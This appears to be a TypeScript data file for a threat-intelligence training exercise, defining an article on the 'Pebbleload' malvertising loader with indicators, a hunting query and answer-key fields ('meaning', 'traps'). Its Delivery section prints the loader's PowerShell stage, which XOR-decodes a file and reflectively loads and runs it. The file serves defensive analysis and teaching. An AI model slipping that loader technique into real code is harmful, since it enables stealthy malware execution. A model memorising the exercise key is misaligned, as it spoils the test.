import type { Indicator } from "../indicator.js";
import { markdown, markdownTable, plain } from "../prose.js";
import { specimens } from "../specimens.js";
import type { Article } from "./article.js";

const indicators: readonly Indicator[] = [
  ["patch-relay.example", "microsoft"],
  ["support-viewer-setup.test", "osint"],
  ["https://support-viewer-setup.test/dl/viewer-14.2.msi", "osint"],
  ["https://patch-relay.example/c/2", "microsoft"],
  [specimens.loader, "microsoft"],
  [specimens.loaderScript, "microsoft"],
];

export const pebbleload: Article = {
  name: "pebbleload",
  title: "Pebbleload: a loader that looks before it steals",
  created: "2026-02-10T09:12:27Z",
  image: "https://images.intel.example.com/articles/pebbleload.png",
  tags: ["Pebbleload", "Loader", "Information stealer", "Malvertising", "Tinwork"],
  summary: plain(`
Pebbleload spreads by advertisements for a remote support tool. On most machines it brings a common information stealer. On
machines in a domain it brings something else, and reports to another server.
`),
  body: markdown(`
## Overview

Pebbleload has been rented out since the autumn of 2025. It is not remarkable as a program. It is remarkable for its
patience: what it delivers is decided by hand, sometimes a day after the infection.

## Delivery

Somebody searches for a remote support tool and follows an advertisement to \`support-viewer-setup[.]test\`. The page
offers \`viewer-14.2.msi\`, which installs the real tool and, beside it, a PowerShell script (T1204.002, T1059.001):

\`\`\`powershell
$n = "$env:LOCALAPPDATA\\Viewer\\cache.dat"
$k = [IO.File]::ReadAllBytes($n) | ForEach-Object { $_ -bxor 0x5A }
[Reflection.Assembly]::Load([byte[]]$k).EntryPoint.Invoke($null, $null)
\`\`\`

The decoded program is Pebbleload. It lists the domain, the installed protection products and the last thirty entries of
the browser history, sends them, and waits (T1082, T1217, T1518.001).

## Two doors

Machines outside a domain get a stealer within minutes. It takes browser passwords and cookies (T1555.003, T1539) and the
files of three wallets. That server changes daily and is shared with other customers of the loader; we leave it out.

Machines inside a domain are told to ask \`hxxps://patch-relay[.]example/c/2\` instead. This host was registered on 4
December 2025. It has only an AAAA record. In three cases the answer was a library that we know as **Tinwork**, the tool
of Tin Squall. We do not think that the loader's authors and Tin Squall are the same people. A customer who may choose
among ten thousand infected machines needs no authors.

## Judgement

- \`support-viewer-setup[.]test\` was reported by the community and is gone. It says nothing of Tin Squall.
- \`patch-relay[.]example\` is the interesting entry. What else is on its address, and since when? Which certificate
  does it serve, and who else serves it?
- The stealer is bad news of its own: one infected private computer was enough to get the password of the tag manager in
  a case of card skimming that we worked on in January.

## Detections

Alerts named *Suspicious PowerShell reflection load* and *Possible theft of browser secrets* cover both branches. For the
hunt:

\`\`\`kusto
DeviceProcessEvents
| where Timestamp > ago(30d)
| where InitiatingProcessFileName =~ "msiexec.exe" and FileName =~ "powershell.exe"
| where ProcessCommandLine has_all ("LOCALAPPDATA", "cache.dat")
| project Timestamp, DeviceName, AccountUpn, ProcessCommandLine
\`\`\`

## Indicators

${markdownTable(indicators)}
`),
  indicators,
  meaning:
    "from patch-relay.example by its IPv6 address and certificate to the new servers of tin-kestrel; the rest is the loader's",
  traps: { "support-viewer-setup.test": "the loader's own, gone, shared by all its customers; no data" },
};
